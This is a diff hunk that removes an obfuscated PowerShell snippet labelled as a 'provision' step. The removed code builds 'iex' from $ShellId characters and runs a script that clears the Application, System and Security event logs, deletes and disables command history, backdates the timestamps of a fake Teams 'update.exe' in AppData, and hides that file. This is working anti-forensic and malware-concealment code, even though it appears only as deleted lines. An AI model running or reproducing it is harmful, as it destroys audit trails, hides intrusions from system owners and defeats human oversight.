@@ -1,8 +1,0 @@
-& ($ShellId[1]+$ShellId[13]+'x') ('# provision 6429 v2
-Clear-EventLog -LogName Application, System, Security
-Remove-Item (Get-PSReadlineOption).HistorySavePath -Force
-Set-PSReadlineOption -HistorySaveStyle SaveNothing
-$f = Get-Item $env:APPDATA\Teams\update.exe
-$f.CreationTime = ''01/01/2019 08:00:00''; $f.LastWriteTime = ''01/01/2019 08:00:00''
-attrib +h +s $env:APPDATA\Teams\update.exe
-')
